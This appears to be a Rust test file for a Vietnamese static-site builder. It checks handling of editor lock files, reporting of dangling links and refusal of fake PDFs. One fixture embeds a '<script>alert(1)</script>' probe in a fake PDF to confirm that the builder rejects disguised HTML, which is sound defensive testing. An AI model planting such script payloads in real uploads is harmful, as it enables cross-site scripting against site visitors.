fn editor_lock_links_and_apple_double_files_are_ignored() {
    let p = Project::new();
    let dir = p.path("content/xa-binh-minh/van-ban/2025");
    std::fs::create_dir_all(&dir).unwrap();
    // Emacs's lock link points at `user@host.pid:time`, which never exists.
    std::os::unix::fs::symlink(
        "can-bo@may-tinh.4242:1767200000",
        dir.join(".#thong-bao-99.md"),
    )
    .unwrap();
    std::fs::write(dir.join("._thong-bao-99.md"), b"\x00\x05\x16\x07Mac OS X").unwrap();
    std::fs::write(dir.join("~$quyet-dinh.docx"), b"\x00lock").unwrap();
    p.build().ok();
}

#[cfg(unix)]
#[test]
fn dangling_link_is_named_in_vietnamese_without_a_machine_path() {
    let p = Project::new();
    let r = linked_refused(
        &p,
        std::path::Path::new("/khong/co/dau"),
        "content/xa-binh-minh/tep/mat.pdf",
    );
    let root = p.root().to_string_lossy().into_owned();
    assert!(
        !r.stderr.contains(&root),
        "machine path shown:\n{}",
        r.stderr
    );
    for english in ["No such file", "os error", "IO error"] {
        assert!(
            !r.stderr.contains(english),
            "English OS error:\n{}",
            r.stderr
        );
    }
}

#[test]
fn pdf_that_does_not_start_with_its_header() {
    for bytes in [
        b"  \n%PDF-1.4 but <html><script>alert(1)</script>".to_vec(),
        // UTF-16 text with a BOM: a browser sniffs it as text/HTML, never as a PDF.
        b"\xFF\xFE<\x00h\x00t\x00m\x00l\x00>\x00".to_vec(),
    ] {
        let p = Project::new();
        p.write_bytes("content/xa-binh-minh/tep/phu-luc.pdf", &bytes);
        p.write(
            NOTICE,
            &notice_with("kem_theo: [tep/phu-luc.pdf]\n", "Nội dung.\n"),
        );
        refused(&p, &[(&at(6, 12), "kem-theo-loai")]).says("`%PDF-`");
    }
}
